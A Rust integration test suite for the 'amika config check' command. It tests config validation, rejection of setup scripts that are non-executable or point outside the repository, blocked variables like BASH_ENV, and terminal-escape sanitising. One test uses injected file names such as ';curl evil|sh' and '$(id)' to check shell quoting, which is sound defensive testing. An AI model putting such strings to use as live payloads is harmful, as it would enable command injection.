//! `amika config check`: what configurations mean, and which are refused.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use pretty_assertions::assert_eq;
use serde_json::{Value, json};

const CASES: &str = include_str!("../../../crates/amika-core/tests/cases/services.json");
const SCRIPT: &str = "scripts/setup.sh";

/// A directory with a configuration and an executable setup script, as a repository has them.
struct Repository(tempfile::TempDir);

impl Repository {
    fn new(config: &str) -> Self {
        let repository = Self(tempfile::tempdir().unwrap());
        repository.write(".amika/config.toml", config);
        repository.write(SCRIPT, "#!/bin/sh\n");
        let executable = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(repository.at(SCRIPT), executable).unwrap();
        repository
    }

    fn at(&self, path: &str) -> PathBuf {
        self.0.path().join(path)
    }

    fn write(&self, path: &str, content: impl AsRef<[u8]>) {
        let path = self.at(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }

    fn check(&self, args: &[&str]) -> Output {
        check_in(self.0.path(), args)
    }

    /// The document, and the exit code.
    fn json(&self, args: &[&str]) -> (Value, i32) {
        document(&self.check(&[&["-o", "json"], args].concat()))
    }
}

fn check_in(cwd: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_amika"))
        .args(["config", "check"])
        .args(args)
        .current_dir(cwd)
        // Whoever needs the engine fails here.
        .env("DOCKER_HOST", "unix:///nowhere/docker.sock")
        .output()
        .unwrap()
}

fn document(output: &Output) -> (Value, i32) {
    let json = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("no JSON document: {error}: {output:?}"));
    (json, output.status.code().unwrap())
}

fn text(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes).unwrap()
}

#[test]
fn every_case_is_told_right() {
    let cases: Value = serde_json::from_str(CASES).unwrap();
    let cases = cases["cases"].as_array().unwrap();
    assert!(cases.len() > 30, "the cases are not all there");
    for case in cases {
        let title = case["title"].as_str().unwrap();
        let repository = Repository::new(case["config_toml"].as_str().unwrap());
        let (document, code) = repository.json(&[]);
        let valid = case["valid"].as_bool().unwrap();
        assert_eq!(document["valid"], json!(valid), "{title}: {document:#}");
        assert_eq!(code, if valid { 0 } else { 2 }, "{title}");
        let expected = case.get("services").filter(|services| !services.is_null());
        let none = json!([]);
        assert_eq!(&document["services"], expected.unwrap_or(&none), "{title}");
        for service in document["services"].as_array().unwrap() {
            for port in service["ports"].as_array().unwrap() {
                let keys: Vec<&String> = port.as_object().unwrap().keys().collect();
                assert_eq!(keys, ["port", "protocol", "url_scheme"], "{title}");
            }
        }
        // A mistake in services leaves the rest in force.
        if case["config_toml"]
            .as_str()
            .unwrap()
            .contains("setup_script")
        {
            assert_eq!(
                document["lifecycle"]["setup_script"],
                json!(SCRIPT),
                "{title}"
            );
        }
    }
}

#[test]
fn the_document_has_each_member_that_was_promised() {
    let repository = Repository::new("[services.api]\nport = 4838\nurl_scheme = \"http\"\n");
    let (document, code) = repository.json(&[]);
    assert_eq!(code, 0);
    assert_eq!(
        document,
        json!({
            "valid": true,
            "lifecycle": {"setup_script": null},
            "sandbox": {
                "preset": null,
                "image": null,
                "limits": {"cpus": null, "memory": null, "pids": null},
            },
            "env": {},
            "secret_env": {},
            "services": [
                {"name": "api", "ports": [{"port": 4838, "protocol": "tcp", "url_scheme": "http"}]},
            ],
            "warnings": [],
        })
    );
}

#[test]
fn one_warning_names_every_problem_with_its_place() {
    let repository = Repository::new(
        "[lifecycle]\nsetup_script = \"scripts/setup.sh\"\n[services.a]\nport = 0\n[services.b]\nport = \"80/tcp\"\n[services.c]\nport = 80\n",
    );
    let (document, code) = repository.json(&[]);
    assert_eq!(code, 2);
    assert_eq!(document["services"], json!([]));
    assert_eq!(document["lifecycle"]["setup_script"], json!(SCRIPT));
    let [warning] = document["warnings"].as_array().unwrap().as_slice() else {
        panic!("more than one warning: {document:#}");
    };
    assert_eq!(
        (&warning["line"], &warning["column"]),
        (&json!(4), &json!(8))
    );
    let message = warning["message"].as_str().unwrap();
    assert!(message.contains("line 4, column 8"), "{message}");
    assert!(message.contains("line 8, column 8"), "{message}");
}

#[test]
fn a_finding_is_shown_with_its_line_and_a_caret() {
    let repository = Repository::new("[services.api]\nport = 70000\n");
    let output = repository.check(&[]);
    assert_eq!(output.status.code(), Some(2));
    let shown = anstream::adapter::strip_bytes(&output.stderr).into_vec();
    let shown = text(&shown);
    assert!(shown.contains(".amika/config.toml:2:8"), "{shown}");
    assert!(shown.contains("port = 70000"), "{shown}");
    assert!(shown.contains("^^^^^"), "{shown}");
    let verdict = text(&output.stdout);
    assert!(
        verdict.contains("not valid: a part of it is ignored"),
        "{verdict}"
    );
}

#[test]
fn text_that_is_no_toml_is_told_with_its_place() {
    let repository = Repository::new("[services.api]\nport = = 1\n");
    let (document, code) = repository.json(&[]);
    assert_eq!((code, &document["valid"]), (2, &json!(false)));
    assert_eq!(document["warnings"][0]["line"], json!(2), "{document:#}");

    let repository = Repository::new("");
    repository.write(".amika/config.toml", b"[env]\nA = \"\xff\"\n");
    let (document, code) = repository.json(&[]);
    assert_eq!((code, &document["valid"]), (2, &json!(false)));
    assert_eq!(document["warnings"][0]["line"], json!(2), "{document:#}");
}

#[test]
fn what_is_to_be_pasted_is_quoted_for_the_shell() {
    for (name, quoted) in [
        (";curl evil|sh", "`chmod +x ';curl evil|sh'`"),
        ("$(id)/a'b", r"`chmod +x '$(id)/a'\''b'`"),
        ("-R", "`chmod +x ./-R`"),
    ] {
        let config = format!("[lifecycle]\nsetup_script = \"{name}\"\n");
        let repository = Repository::new(&config);
        repository.write(name, "#!/bin/sh\n");
        let shown = repository.check(&[]);
        let shown = String::from_utf8_lossy(&shown.stderr).into_owned();
        assert!(shown.contains(quoted), "{shown}");
    }
}

#[test]
fn variables_that_a_repository_may_not_set_are_told_with_their_place() {
    let repository = Repository::new("[env]\nA = 1\nBASH_ENV = \"x\"\n");
    let (document, code) = repository.json(&[]);
    assert_eq!((code, &document["valid"]), (2, &json!(false)));
    assert_eq!(document["env"], json!({"A": "1"}));
    let warning = &document["warnings"][0];
    assert_eq!(
        (&warning["line"], &warning["column"]),
        (&json!(3), &json!(1))
    );
}

#[test]
fn a_setup_script_must_stand_in_the_repository_and_be_executable() {
    let config = "[lifecycle]\nsetup_script = \"scripts/setup.sh\"\n[services.api]\nport = 80\n";
    let repository = Repository::new(config);
    let verdict = |why: &str| {
        let (document, code) = repository.json(&[]);
        assert_eq!((code, &document["valid"]), (2, &json!(false)), "{why}");
        let warning = &document["warnings"][0];
        assert_eq!(
            (&warning["line"], &warning["column"]),
            (&json!(2), &json!(16)),
            "{why}"
        );
        assert!(
            warning["message"].as_str().unwrap().contains(why),
            "{why}: {warning}"
        );
        // Nothing is wrong with the services.
        assert_eq!(document["services"][0]["name"], json!("api"), "{why}");
    };
    assert_eq!(repository.json(&[]).1, 0);
    let script = repository.at(SCRIPT);
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).unwrap();
    verdict("is not executable");
    std::fs::remove_file(&script).unwrap();
    verdict("does not exist");
    std::os::unix::fs::symlink("/bin/sh", &script).unwrap();
    verdict("leads out of the repository");
    std::fs::remove_file(&script).unwrap();
    std::os::unix::fs::symlink("nowhere", &script).unwrap();
    verdict("leads nowhere");
    std::fs::remove_file(&script).unwrap();
    std::fs::create_dir(&script).unwrap();
    verdict("is a directory");
    repository.write(
        ".amika/config.toml",
        config.replace("scripts/", "../scripts/"),
    );
    verdict("..");
}

#[test]
fn a_setup_script_that_leads_out_is_told_the_same_whether_the_target_exists_or_not() {
    let repository = Repository::new("[lifecycle]\nsetup_script = \"out\"\n");
    for target in ["/no/such/file", "../../no/such/file", "/bin/sh"] {
        std::os::unix::fs::symlink(target, repository.at("out")).unwrap();
        let (document, code) = repository.json(&[]);
        let message = document["warnings"][0]["message"].as_str().unwrap();
        assert_eq!(code, 2, "{target}");
        assert!(message.contains("leads out of the repository"), "{message}");
        std::fs::remove_file(repository.at("out")).unwrap();
    }
}

#[test]
fn a_configuration_that_is_a_link_out_of_the_repository_is_not_read() {
    let repository = Repository::new("");
    let elsewhere = Repository::new("[env]\nSECRET = oops\n");
    let config = repository.at(".amika/config.toml");
    for target in [elsewhere.at(".amika/config.toml"), "/no/such/file".into()] {
        std::fs::remove_file(&config).unwrap();
        std::os::unix::fs::symlink(&target, &config).unwrap();
        for args in [vec![], vec![".amika/config.toml"]] {
            let output = repository.check(&args);
            let shown = text(&output.stderr);
            assert_eq!(output.status.code(), Some(2), "{shown}");
            assert!(shown.contains("leads out of the repository"), "{shown}");
            assert!(shown.contains("hint: "), "{shown}");
            assert!(!shown.contains("oops"), "{shown}");
        }
    }
    // A link to another file of the repository is one of its files.
    repository.write("real.toml", "[services.api]\nport = 80\n");
    std::fs::remove_file(&config).unwrap();
    std::os::unix::fs::symlink("../real.toml", &config).unwrap();
    let (document, code) = repository.json(&[]);
    assert_eq!((code, &document["services"][0]["name"]), (0, &json!("api")));
}

#[test]
fn what_is_no_regular_file_is_told_at_once() {
    let repository = Repository::new("");
    let config = repository.at(".amika/config.toml");
    std::fs::remove_file(&config).unwrap();
    let made = Command::new("mkfifo").arg(&config).status().unwrap();
    assert!(made.success());
    let mut command = Command::new(env!("CARGO_BIN_EXE_amika"));
    let mut child = command
        .args(["config", "check", "-o", "json"])
        .current_dir(repository.at(""))
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            child.kill().unwrap();
            panic!("it waits for a writer");
        }
        std::thread::yield_now();
    }
    let output = child.wait_with_output().unwrap();
    let (document, code) = document(&output);
    assert_eq!(code, 2);
    let error = document["error"].to_string();
    assert!(error.contains("not a regular file"), "{error}");
}

#[test]
fn a_preset_that_there_is_not_is_told_where_it_stands() {
    let repository = Repository::new("[sandbox]\npreset = \"codr\"\n[services.api]\nport = 80\n");
    let (document, code) = repository.json(&[]);
    assert_eq!((code, &document["valid"]), (2, &json!(false)));
    let warning = &document["warnings"][0];
    assert_eq!(
        warning["message"],
        json!(
            "[sandbox] is ignored:\n  line 2, column 10: there is no preset \"codr\"; did you mean \"coder\"?"
        )
    );
    assert_eq!(document["sandbox"]["preset"], json!(null));
    assert_eq!(
        (&warning["line"], &warning["column"]),
        (&json!(2), &json!(10))
    );
    assert_eq!(document["services"][0]["name"], json!("api"));
    let config = "[sandbox]\npreset = \"coder-dind\"\n";
    assert_eq!(Repository::new(config).json(&[]).1, 0);
}

#[test]
fn the_file_is_found_from_where_one_stands() {
    let repository = Repository::new("[services.api]\nport = 80\n");
    let services = |(document, code): (Value, i32)| {
        assert_eq!(code, 0, "{document:#}");
        document["services"].as_array().unwrap().len()
    };
    let at = |path: &str| repository.at(path).display().to_string();
    assert_eq!(services(repository.json(&[])), 1);
    assert_eq!(services(repository.json(&[&at("")])), 1);
    assert_eq!(services(repository.json(&[".amika/config.toml"])), 1);
    assert_eq!(services(repository.json(&[&at(".amika/config.toml")])), 1);
    // A directory within a repository means the repository.
    std::fs::create_dir(repository.at(".git")).unwrap();
    assert_eq!(services(repository.json(&["scripts"])), 1);
    let below = check_in(&repository.at("scripts"), &["-o", "json"]);
    assert_eq!(services(document(&below)), 1);
}

#[test]
fn a_file_that_is_not_there_is_an_error() {
    let empty = tempfile::tempdir().unwrap();
    for args in [vec![], vec!["nowhere"], vec!["nowhere/.amika/config.toml"]] {
        let output = check_in(empty.path(), &[vec!["-o", "json"], args].concat());
        let (document, code) = document(&output);
        assert_eq!((code, &document["error"]["code"]), (2, &json!("usage")));
    }
}

#[test]
fn names_cannot_steer_the_terminal() {
    let repository = Repository::new("[services.\"a\\u001b[2Jb\"]\nport = 80\n");
    let output = repository.check(&[]);
    let everything = [output.stdout, output.stderr].concat();
    let shown = anstream::adapter::strip_bytes(&everything).into_vec();
    assert!(text(&shown).contains("a\\u{1b}[2Jb"), "{}", text(&shown));
    // What styles there are end a line or a word; none clears the screen.
    assert!(!text(&everything).contains("\u{1b}[2J"));
}
